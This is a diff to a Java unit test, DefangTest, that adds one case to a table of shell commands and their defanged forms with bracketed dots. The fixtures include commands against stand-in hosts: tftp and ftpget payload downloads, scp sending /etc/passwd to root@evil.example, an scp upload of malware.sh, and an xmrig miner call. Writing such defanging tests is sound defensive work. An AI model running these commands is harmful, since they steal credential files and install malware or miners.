@@ -62,6 +62,7 @@ class DefangTest {
                 "tftp evil.example -c get bins.sh ~ tftp evil[.]example -c get bins.sh",
                 "ftpget -u a -p a files.example x.sh x.sh ~ ftpget -u a -p a files[.]example x.sh x.sh",
                 "scp /etc/passwd root@evil.example:/tmp ~ scp /etc/passwd root@evil[.]example:/tmp",
+                "scp malware.sh root@evil.sh: ~ scp malware.sh root@evil[.]sh:",
                 "A=evil.example/bins; echo $A ~ A=evil[.]example/bins; echo $A",
                 "./xmrig -o pool.example:3333 ~ ./xmrig -o pool[.]example:3333",
                 "echo www.example.net ~ echo www[.]example[.]net",
